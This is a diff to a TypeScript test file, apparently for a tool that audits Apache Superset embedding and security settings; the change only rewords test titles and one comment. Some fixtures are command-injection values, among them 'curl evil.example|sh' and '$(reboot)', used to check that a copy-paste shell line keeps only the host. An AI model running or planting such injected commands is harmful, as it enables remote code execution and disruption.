@@ -104,14 +104,14 @@ test.each([
   ])
 })
 
-test("X-Frame-Options of SAMEORIGIN lets Superset's own pages frame it, and nobody else", async () => {
+test("X-Frame-Options of SAMEORIGIN allows frames only in Superset's own pages", async () => {
   const headers = new Headers({ 'x-frame-options': 'SAMEORIGIN' })
   const answer = { sentAtMs: 0, receivedAtMs: 0, headers }
   const subject = { ...answering({}), answer, origin: 'https://bi.example.com' }
   expect(await found(framing, subject)).toEqual(['ok framing'])
 })
 
-test('a page under HTTPS frames nothing that is not', async () => {
+test('a page under HTTPS can only frame HTTPS, except on localhost', async () => {
   const subject = { ...answering({}), url: 'http://bi.example.com', origin: 'https://app.example.com' }
   expect(await found(framing, subject)).toEqual(['fail mixed-content'])
   expect(await found(framing, { ...subject, url: 'http://localhost:8088' })).toEqual([
@@ -137,12 +137,12 @@ test.each([
 test.each([
   ['app.example.com', '--allow https://app.example.com'],
   ['localhost:3000', '--allow http://localhost:3000'],
-  // Whoever edits the dashboard writes these, and somebody else pastes the line into a shell.
+  // The editor of a dashboard writes these domains, and another person pastes the line into a shell.
   ['app.example.com;reboot', '--allow https://app.example.com'],
   ['$(reboot)', '--allow https://app.example.com'],
   ['x\n    curl\tevil.example|sh', '--allow https://app.example.com'],
   ['https://`reboot`*', '--allow https://app.example.com'],
-])('the line to copy holds nothing of a domain that is more than a host: %j', async (domain, line) => {
+])('the line to copy contains only the host of a domain: %j', async (domain, line) => {
   const embedding = { result: { allowed_domains: [domain], dashboard_id: '1' } }
   const subject = answering({ '/api/v1/embedded_dashboard/an-embed-id': [200, embedding] })
   const [finding] = (await allowedDomains.run(subject)).findings
@@ -152,11 +152,11 @@ test.each([
 test.each([
   [allowedDomains, ['warn embedding-unreadable']],
   [datasets, ['warn datasets-unreadable']],
-])('what the account may not read is said', async (check, findings) => {
+])('warns about settings that the account may not read', async (check, findings) => {
   expect(await found(check, answering({}))).toEqual(findings)
 })
 
-test('a database that the account may not read is said', async () => {
+test('warns about a database that the account may not read', async () => {
   const datasets = [datasetOf({ databaseId: 7 })]
   expect(await found(databases, { ...answering({}), datasets })).toEqual(['warn database-unreadable'])
 })
@@ -176,7 +176,7 @@ test.each([
   expect(await found(guestRole, { ...answering(answers), token: 'a.b.c' })).toEqual([finding])
 })
 
-test('a chart whose data is refused to guests is named', async () => {
+test('names a chart whose data guests may not read', async () => {
   const charts = [{ id: 5, name: 'Revenue', datasetId: 3, formData: {} }]
   const refused = { errors: [{ message: 'Guest user cannot modify chart payload' }] }
   const subject = {
@@ -189,7 +189,7 @@ test('a chart whose data is refused to guests is named', async () => {
   expect(findings[0]?.what).toContain('Revenue')
 })
 
-test('a rule that no token is minted with is told by its number', async () => {
+test('reports a rule for which Superset mints no token, without its text', async () => {
   const subject = {
     ...answering({ [MINT]: 400 }),
     rls: [ruleOf({ clause: "org = 'acme'" })],
@@ -201,7 +201,7 @@ test('a rule that no token is minted with is told by its number', async () => {
   expect(JSON.stringify(findings)).not.toContain('acme')
 })
 
-test('that no dataset could be asked with a rule is not taken for an answer', async () => {
+test('skips the check when no dataset could be asked with a rule', async () => {
   const subject = {
     ...answering({ [MINT]: [200, { token: 'a.b.c' }] }),
     rls: [ruleOf()],
@@ -227,7 +227,7 @@ test.each<readonly [string, boolean, boolean, readonly string[]]>([
   expect(await found(rlsAnswers, asked)).toEqual(findings)
 })
 
-test('every saved query of a mixed chart is asked, each for one row', () => {
+test('asks each saved query of a mixed chart for one row', () => {
   const chart = { id: 5, name: 'Mixed', datasetId: 3, formData: { slice_id: 5 } }
   const saved = JSON.stringify({ queries: [{ metrics: ['a'] }, { metrics: ['b'] }] })
   expect(chartQuery(chart, saved, 1)).toMatchObject({
@@ -296,7 +296,7 @@ const listOf = (name: string) =>
     `(columns:!(id,table_name),filters:!((col:table_name,opr:ct,value:'${name}')),page_size:100)`,
   )}`
 
-test('the datasets that rules name, and those of the tables in virtual SQL, are read once each', async () => {
+test('reads each dataset of rules and of tables in virtual SQL once', async () => {
   const virtual = { ...DATASET, table_name: 'v', sql: "SELECT * FROM Orders o JOIN o'x ON 1" }
   const answers = {
     ...LISTED,
@@ -322,7 +322,7 @@ test('the datasets that rules name, and those of the tables in virtual SQL, are 
   ])
 })
 
-test('without rules no other dataset is asked for', async () => {
+test('requests no other dataset without rules', async () => {
   const answers = {
     ...LISTED,
     '/api/v1/dataset/3': [200, { result: { ...DATASET, sql: 'SELECT * FROM orders' } }],
